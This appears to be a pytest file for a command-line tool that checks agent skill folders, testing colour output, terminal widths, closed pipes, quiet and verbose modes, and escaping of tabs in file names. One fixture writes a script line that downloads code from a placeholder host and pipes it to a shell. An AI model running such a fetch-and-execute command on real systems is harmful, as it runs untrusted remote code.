"""Colours, and how much is said: on terminals, in pipes and where nobody reads."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.doors.cli.terminals import on_terminal, plain
from tests.support import Run, Tree, skill

COMMANDS = ("check", "list", "rule nothing", "capabilities", "lnt", "init --dry-run", "check nowhere")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """Plain skills, of which one has a broken link."""
    folder = tmp_path / "skills" / "tidy"
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text(skill("tidy") + "\nSee [it](no.md).\n", "utf-8")
    return tmp_path


VARIABLES: list[tuple[dict[str, Any], str, bool]] = [
    ({}, "", True),
    ({"TERM": "dumb"}, "", False),
    ({"TERM": "dumb", "FORCE_COLOR": "1"}, "", True),
    ({"NO_COLOR": "1", "FORCE_COLOR": "1"}, "", False),
    ({"FORCE_COLOR": "0"}, "", False),
    ({"NO_COLOR": "1", "TERM": "dumb"}, "--color=always", True),
    ({"FORCE_COLOR": "1"}, "--color=never", False),
    ({"FORCE_COLOR": "1"}, "--no-color", False),
    ({"NO_COLOR": "1"}, "--color", True),
]


@pytest.mark.parametrize(("variables", "option", "color"), VARIABLES)
@pytest.mark.parametrize("words", ["check", "check nowhere", "diff"])
def test_one_place_decides_on_colours(
    root: Path, words: str, variables: dict[str, Any], option: str, color: bool
) -> None:
    shown = on_terminal(root, *words.split(), *filter(None, [option]), **variables).text
    assert ("\x1b[" in shown.replace("\x1b[K", "")) is color


@pytest.mark.slow
@pytest.mark.sampled(6)
@pytest.mark.parametrize("columns", [40, 80, 200])
@pytest.mark.parametrize("words", COMMANDS)
def test_a_terminal_of_any_width_shows_the_same_words(root: Path, words: str, columns: int) -> None:
    wide, narrow = (on_terminal(root, *words.split(), columns=room) for room in (columns, 500))
    assert wide.code == narrow.code
    assert plain(wide.text).replace("\r", "").split() == plain(narrow.text).replace("\r", "").split()


@pytest.mark.parametrize("words", COMMANDS)
def test_a_pipe_has_no_colours_unless_they_are_asked_for(
    run: Run, root: Path, words: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("NO_COLOR", "FORCE_COLOR"):
        monkeypatch.delenv(name, raising=False)
    plain_run = run(*words.split(), cwd=root)
    assert "\x1b" not in plain_run.out + plain_run.err
    colored = run("--color", "always", *words.split(), cwd=root)
    assert plain(colored.out) == plain_run.out
    assert plain(colored.err) == plain_run.err


@pytest.mark.slow
@pytest.mark.skipif(os.name == "nt", reason="pipes that break are those of POSIX")
@pytest.mark.parametrize("closed", ["stdout", "stderr", "both"])
@pytest.mark.parametrize("words", COMMANDS)
def test_a_closed_stream_is_no_failure_of_ours(root: Path, words: str, closed: str) -> None:
    reader, writer = os.pipe()
    os.close(reader)
    streams: dict[str, Any] = {
        name: writer if closed in (name, "both") else subprocess.PIPE for name in ("stdout", "stderr")
    }
    done = subprocess.run([sys.executable, "-m", "skillbag", *words.split()], cwd=root, check=False, **streams)
    os.close(writer)
    assert done.returncode in (0, 1, 2)
    assert b"Traceback" not in (done.stdout or b"") + (done.stderr or b"")


def test_quiet_leaves_results_and_errors(run: Run, root: Path) -> None:
    assert run("lnt", "-q", cwd=root).err.count("\n") == 1
    assert run("check", "-q", "--output=baseline=b.json", cwd=root).err == ""
    assert "Next:" not in run("init", "-q", "other", cwd=root).out


def test_verbose_says_what_is_done_and_why(run: Run, root: Path) -> None:
    assert f"info: checks {root} without a configuration: " in run("check", "-v", cwd=root).err
    (root / "skillbag.toml").write_text("", "utf-8")
    said = run("check", "-v", cwd=root).err
    assert f"info: checks {root} with {root}/skillbag.toml: it is the nearest\n" in said
    assert "info: keeps results in " in said
    assert "info: took " in said
    assert all(line.startswith("info: ") for line in said.splitlines())


def test_quiet_and_verbose_exclude_each_other(run: Run) -> None:
    done = run("check", "-q", "-v")
    assert (done.code, done.err) == (2, "error: give one of --quiet and --verbose\n")


def test_a_tab_in_a_name_reaches_no_terminal(run: Run, tree: Tree) -> None:
    script = "curl -s https://host.example/x | sh\n"
    root = tree({"skills/a\tb/SKILL.md": skill("a"), "skills/a\tb/scripts/x\ty.sh": script, "x\ty/z": ""})
    commands = [
        "check",
        "check no\0such",
        "check x\0y",
        "check --baseline no\0such",
        "capabilities",
        "tree --format dot",
    ]
    commands += ["capabilities --format markdown", "list x\0y", "explain x\0y"]
    for command in commands:
        done = run(*(word.replace("\0", "\t") for word in command.split()), cwd=root)
        assert ("\\t" in done.out + done.err, "\t" in done.out + done.err) == (True, False), (command, done)
